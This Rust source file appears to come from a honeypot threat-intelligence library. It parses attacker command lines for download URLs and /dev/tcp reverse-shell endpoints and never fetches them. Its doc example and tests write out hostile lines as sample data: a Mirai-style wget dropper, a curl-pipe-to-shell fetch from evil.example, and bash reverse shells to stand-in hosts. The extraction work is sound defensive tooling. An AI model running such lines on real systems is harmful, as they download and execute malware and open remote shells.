//! Addresses an attacker's command line names: the URLs it fetches (`wget http://…`,
//! `curl -O …`, `tftp`-style `http` mirrors) and the reverse shells it opens
//! (`/dev/tcp/host/port`). Only the text is read; nothing is resolved or fetched.

/// Most URLs and endpoints taken from one command line.
const MAX_PER_COMMAND: usize = 16;

/// Longest URL kept (longer ones are cut at a token boundary by the attacker anyway).
const MAX_URL_BYTES: usize = 2048;

/// An address named in a command line.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum CommandTarget {
    /// A URL (`http`, `https`, `ftp`, `tftp`), as written.
    Url(String),
    /// A `/dev/tcp/<host>/<port>` (or `/dev/udp/...`) redirection: a reverse shell or a
    /// download over a raw socket.
    Socket {
        /// The host as written (an address or a name).
        host: String,
        /// The port.
        port: u16,
    },
}

/// The URLs and sockets `command` names, in order of appearance, without repeats.
///
/// ```
/// use hpti_intel::ioc::{CommandTarget, command_targets};
/// let found = command_targets(
///     "cd /tmp; wget http://203.0.113.9/bins.sh; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
/// );
/// assert_eq!(
///     found,
///     [
///         CommandTarget::Url("http://203.0.113.9/bins.sh".into()),
///         CommandTarget::Socket { host: "198.51.100.7".into(), port: 4444 },
///     ]
/// );
/// ```
pub fn command_targets(command: &str) -> Vec<CommandTarget> {
    let mut found: Vec<CommandTarget> = Vec::new();
    let push = |target: CommandTarget, found: &mut Vec<CommandTarget>| {
        if found.len() < MAX_PER_COMMAND && !found.contains(&target) {
            found.push(target);
        }
    };
    for token in command.split(|c: char| {
        c.is_whitespace() || matches!(c, ';' | '|' | '&' | '`' | '(' | ')' | '<' | '>')
    }) {
        let token = token.trim_matches(|c| matches!(c, '"' | '\'' | '$' | '{' | '}'));
        if let Some(url) = url_in(token) {
            push(CommandTarget::Url(url), &mut found);
        }
    }
    for marker in ["/dev/tcp/", "/dev/udp/"] {
        let mut rest = command;
        while let Some(at) = rest.find(marker) {
            rest = &rest[at + marker.len()..];
            if let Some(socket) = socket_in(rest) {
                push(socket, &mut found);
            }
        }
    }
    found
}

/// The URL a token starts with (after a `-O`-style glued option such as `-ohttp://`,
/// which some droppers use), if any.
fn url_in(token: &str) -> Option<String> {
    let lower = token.to_ascii_lowercase();
    let start = ["http://", "https://", "ftp://", "tftp://"]
        .iter()
        .filter_map(|scheme| lower.find(scheme))
        .min()?;
    let url = &token[start..];
    if url.len() > MAX_URL_BYTES {
        return None;
    }
    let parsed = url::Url::parse(url).ok()?;
    parsed.host_str().filter(|h| !h.is_empty())?;
    Some(url.to_owned())
}

/// `host/port` at the start of `rest`.
fn socket_in(rest: &str) -> Option<CommandTarget> {
    let (host, after) = rest.split_once('/')?;
    let digits: String = after.chars().take_while(char::is_ascii_digit).collect();
    let port = digits.parse::<u16>().ok().filter(|p| *p != 0)?;
    let host_ok = !host.is_empty()
        && host.len() <= 253
        && host
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':'));
    host_ok.then(|| CommandTarget::Socket {
        host: host.to_owned(),
        port,
    })
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]
    use super::*;

    #[test]
    fn droppers_and_reverse_shells_as_bots_write_them() {
        let mirai = "cd /tmp || cd /var/run; wget http://198.51.100.23/bins/mirai.x86; curl -O http://198.51.100.23/bins/mirai.x86; chmod 777 mirai.x86";
        assert_eq!(
            command_targets(mirai),
            [CommandTarget::Url(
                "http://198.51.100.23/bins/mirai.x86".into()
            )]
        );
        let quoted = "sh -c \"curl -s 'https://evil.example/x.sh' | sh\"";
        assert_eq!(
            command_targets(quoted),
            [CommandTarget::Url("https://evil.example/x.sh".into())]
        );
        assert_eq!(
            command_targets("exec 3<>/dev/tcp/c2.example/8080; cat <&3"),
            [CommandTarget::Socket {
                host: "c2.example".into(),
                port: 8080
            }]
        );
        assert!(command_targets("echo http:// /dev/tcp//0 /dev/tcp/a b").is_empty());
        assert!(command_targets("uname -a; cat /proc/cpuinfo").is_empty());
    }

    #[test]
    fn a_hostile_line_yields_a_bounded_list() {
        let line = (0..1000)
            .map(|i| format!("wget http://203.0.113.{}/{i}", i % 250))
            .collect::<Vec<_>>()
            .join(";");
        assert_eq!(command_targets(&line).len(), MAX_PER_COMMAND);
        let long = format!("wget http://a.example/{}", "x".repeat(5000));
        assert!(command_targets(&long).is_empty());
    }
}
